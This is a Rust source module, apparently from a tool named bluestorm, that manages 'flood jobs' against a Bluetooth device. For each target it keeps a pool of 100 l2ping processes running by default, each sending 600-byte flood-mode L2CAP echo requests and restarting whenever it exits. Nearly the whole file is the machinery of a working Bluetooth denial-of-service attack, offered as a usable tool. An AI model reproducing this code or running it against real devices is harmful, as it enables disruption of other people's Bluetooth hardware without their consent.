//! Flood jobs: per-target pools of l2ping worker processes
//!
//! A job owns a fixed number of supervision tasks. Each task keeps one
//! flood process alive, restarting it on every exit, until the job is
//! stopped. Shutdown is cooperative first (the watch channel) and
//! forceful second (the in-flight child is killed and reaped), so a
//! stopped job leaves no processes behind.

use std::process::Stdio;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::Arc;

use bluestorm_core::{BdAddr, Error, Result};
use tokio::process::{Child, Command};
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};
use uuid::Uuid;

/// Default L2CAP echo payload size in bytes
pub const DEFAULT_PACKET_SIZE: u32 = 600;
/// Default number of worker processes per job
pub const DEFAULT_WORKER_COUNT: usize = 100;

/// Options for a new flood job
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct JobOptions {
    pub packet_size: u32,
    pub worker_count: usize,
}

impl Default for JobOptions {
    fn default() -> Self {
        Self {
            packet_size: DEFAULT_PACKET_SIZE,
            worker_count: DEFAULT_WORKER_COUNT,
        }
    }
}

/// The external command a worker keeps re-running.
///
/// Kept as plain data so tests can substitute an innocuous command for
/// l2ping.
#[derive(Debug, Clone)]
pub struct WorkerCommand {
    pub program: String,
    pub args: Vec<String>,
}

impl WorkerCommand {
    /// The real flood command: `l2ping -i <adapter> -s <size> -f <target>`
    pub fn l2ping(adapter: &str, packet_size: u32, target: BdAddr) -> Self {
        Self {
            program: "l2ping".to_string(),
            args: vec![
                "-i".to_string(),
                adapter.to_string(),
                "-s".to_string(),
                packet_size.to_string(),
                "-f".to_string(),
                target.to_string(),
            ],
        }
    }

    fn spawn(&self) -> std::io::Result<Child> {
        Command::new(&self.program)
            .args(&self.args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
    }
}

/// Counters shared between a job and its workers
#[derive(Debug, Default)]
struct JobCounters {
    live_workers: AtomicUsize,
    respawns: AtomicU64,
    spawn_failures: AtomicU64,
}

/// Snapshot of a job's worker pool
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct JobStats {
    /// Workers currently supervising a live flood process
    pub live_workers: usize,
    /// Times the flood command exited and was restarted
    pub respawns: u64,
    /// Workers that died because the command could not be spawned at all
    pub spawn_failures: u64,
}

/// A pool of worker processes flooding one target
pub struct FloodJob {
    id: Uuid,
    target: BdAddr,
    command: WorkerCommand,
    options: JobOptions,
    shutdown: watch::Sender<bool>,
    workers: Vec<JoinHandle<()>>,
    counters: Arc<JobCounters>,
}

impl FloodJob {
    pub fn new(target: BdAddr, command: WorkerCommand, options: JobOptions) -> Self {
        let (shutdown, _) = watch::channel(false);
        Self {
            id: Uuid::now_v7(),
            target,
            command,
            options,
            shutdown,
            workers: Vec::new(),
            counters: Arc::new(JobCounters::default()),
        }
    }

    pub fn id(&self) -> Uuid {
        self.id
    }

    pub fn target(&self) -> BdAddr {
        self.target
    }

    pub fn options(&self) -> JobOptions {
        self.options
    }

    pub fn is_running(&self) -> bool {
        !self.workers.is_empty()
    }

    /// Spawn the worker pool. Must be called in tokio runtime context.
    ///
    /// Returns once all supervision tasks are issued; it does not wait
    /// for the flood processes to do anything. A worker whose command
    /// cannot be spawned dies quietly (see [`JobStats::spawn_failures`]),
    /// so the pool may end up smaller than requested.
    pub fn start(&mut self) -> Result<()> {
        if self.is_running() {
            return Err(Error::job(format!("job {} already started", self.id)));
        }

        info!(
            id = %self.id,
            target = %self.target,
            workers = self.options.worker_count,
            packet_size = self.options.packet_size,
            "starting flood job"
        );

        for worker in 0..self.options.worker_count {
            let command = self.command.clone();
            let shutdown = self.shutdown.subscribe();
            let counters = Arc::clone(&self.counters);
            let id = self.id;
            self.workers.push(tokio::spawn(async move {
                flood_worker(id, worker, command, shutdown, counters).await;
            }));
        }

        Ok(())
    }

    /// Stop every worker and wait for full termination. Idempotent.
    pub async fn stop(&mut self) {
        if self.workers.is_empty() {
            return;
        }

        info!(id = %self.id, target = %self.target, "stopping flood job");
        let _ = self.shutdown.send(true);
        for handle in self.workers.drain(..) {
            let _ = handle.await;
        }
        debug!(id = %self.id, "flood job stopped");
    }

    pub fn stats(&self) -> JobStats {
        JobStats {
            live_workers: self.counters.live_workers.load(Ordering::Relaxed),
            respawns: self.counters.respawns.load(Ordering::Relaxed),
            spawn_failures: self.counters.spawn_failures.load(Ordering::Relaxed),
        }
    }
}

/// One worker: keep the flood command running until shutdown.
///
/// The command is restarted on every exit; only a failure to spawn at
/// all ends the worker early. On shutdown the in-flight process is
/// killed and reaped before the task returns.
async fn flood_worker(
    id: Uuid,
    worker: usize,
    command: WorkerCommand,
    mut shutdown: watch::Receiver<bool>,
    counters: Arc<JobCounters>,
) {
    loop {
        if *shutdown.borrow() {
            break;
        }

        let mut child = match command.spawn() {
            Ok(child) => child,
            Err(err) => {
                counters.spawn_failures.fetch_add(1, Ordering::Relaxed);
                warn!(%id, worker, error = %err, "failed to spawn flood process");
                break;
            }
        };
        counters.live_workers.fetch_add(1, Ordering::Relaxed);

        tokio::select! {
            status = child.wait() => {
                counters.live_workers.fetch_sub(1, Ordering::Relaxed);
                counters.respawns.fetch_add(1, Ordering::Relaxed);
                debug!(%id, worker, ?status, "flood process exited, restarting");
            }
            _ = shutdown.changed() => {
                let _ = child.start_kill();
                let _ = child.wait().await;
                counters.live_workers.fetch_sub(1, Ordering::Relaxed);
                break;
            }
        }
    }
}
